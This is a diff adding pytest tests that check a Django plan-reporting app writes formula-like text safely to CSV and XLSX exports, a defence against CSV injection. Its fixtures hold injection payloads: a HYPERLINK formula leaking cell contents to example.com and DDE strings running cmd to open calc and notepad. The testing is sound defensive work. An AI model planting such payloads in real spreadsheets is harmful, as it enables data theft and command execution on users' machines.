@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from typing import Any
 
 import pytest
 from django.core.management import call_command
@@ -12,6 +13,8 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from sendplan.interchange.merge import apply_changes, plan_changes
 from sendplan.interchange.parsers import parse_file_inprocess
+from sendplan.monitoring import services as monitoring
+from sendplan.plans import services
 from sendplan.plans.models import Plan
 from sendplan.reports import renderers
 from sendplan.reports.data import load_plan
@@ -179,3 +182,91 @@ def test_it_changes_nothing_when_a_demo_plans_tracker_comes_back(area: str) -> N
     plan = Plan.objects.get(area__name=area)
     changes = plan_changes(plan, read_back(tracker_xlsx(load_plan(plan))))
     assert changes.is_empty, changes.summary()
+
+
+# Text that a spreadsheet would run as a formula (OWASP's CSV injection)
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://example.com/?x="&A1,"Click for the minutes")',
+    "lead_text": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "evidence_of_impact": "+1+1",
+    "monitoring": "\tTermly=1+1",
+    "members": "\r=1+1",
+}
+NARRATIVE = "-2+3+cmd|' /C notepad'!'A1'"
+
+
+def with_formula_like_text(reports: ReportWorld, **fields: str) -> None:
+    values: dict[str, Any] = fields or FORMULAS
+    services.action_update(actor=None, action=reports.late, **values)
+    monitoring.status_update_record(
+        actor=None, action=reports.late, period=reports.periods[2], status="R", narrative=NARRATIVE
+    )
+
+
+def test_it_writes_text_that_looks_like_a_formula_as_text_in_the_csvs(
+    reports: ReportWorld,
+) -> None:
+    with_formula_like_text(reports)
+    data = load_plan(reports.plan)
+    actions = list(csv.DictReader(io.StringIO(renderers.actions_csv(data).decode("utf-8-sig"))))
+    late = actions[0]
+    assert late["Action"] == "'" + FORMULAS["title"]
+    assert late["Lead (as written)"] == "'" + FORMULAS["lead_text"]
+    assert late["Evidence of impact"] == "'+1+1"
+    assert late["Monitoring and evaluation"] == "'\tTermly=1+1"
+    assert late["Members"] == "'\r=1+1"
+    assert late["Latest narrative"] == "'" + NARRATIVE
+    # Figures stay figures, and text that starts otherwise is left alone.
+    assert (actions[2]["Cost"], actions[1]["Action"]) == ("12000.00", "Publish the board's minutes")
+
+    updates = list(csv.DictReader(io.StringIO(renderers.updates_csv(data).decode("utf-8-sig"))))
+    newest = [u for u in updates if u["Action ref"] == "1.1.1"][-1]
+    assert (newest["Action"], newest["Narrative"]) == (
+        "'" + FORMULAS["title"],
+        "'" + NARRATIVE,
+    )
+    every_cell = [value for row in actions + updates for value in row.values()]
+    assert not [v for v in every_cell if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_it_writes_text_that_looks_like_a_formula_as_text_in_the_tracker(
+    reports: ReportWorld,
+) -> None:
+    with_formula_like_text(reports)
+    book = workbook(tracker_xlsx(load_plan(reports.plan)))
+    sheet = book["All actions"]
+    table = rows(sheet)
+    headings = [str(h) for h in table[2]]
+    row = 3 + next(i for i, r in enumerate(table[3:]) if r[0] == "1.1.1") + 1
+    cells = {name: sheet.cell(row=row, column=i + 1) for i, name in enumerate(headings)}
+    for heading, text in [
+        ("Action", FORMULAS["title"]),
+        ("Lead", FORMULAS["lead_text"]),
+        ("Evidence of impact", "+1+1"),
+        ("Monitoring and evaluation", "\tTermly=1+1"),
+        ("Members", "\r=1+1"),
+        ("Progress update Sep 18", NARRATIVE),
+    ]:
+        cell = cells[heading]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), heading
+    formulas = [c.coordinate for s in book.worksheets for r in s.iter_rows() for c in r
+                if c.data_type == "f"]  # fmt: skip
+    assert formulas == []
+
+
+def test_it_changes_nothing_when_a_tracker_with_formula_like_text_comes_back(
+    reports: ReportWorld,
+) -> None:
+    # The lead is read back as people, so it is written as a plan would write it.
+    with_formula_like_text(
+        reports,
+        title=FORMULAS["title"],
+        lead_text="@Head of ELS (HH)",
+        group="+SEND board working group",
+        monitoring=FORMULAS["monitoring"],
+        members="=Chair, DCO, forum",
+    )
+    changes = plan_changes(reports.plan, read_back(tracker_xlsx(load_plan(reports.plan))))
+    assert changes.summary() == "No changes"
+    assert (changes.problems, changes.notes, changes.not_in_file) == ([], [], [])
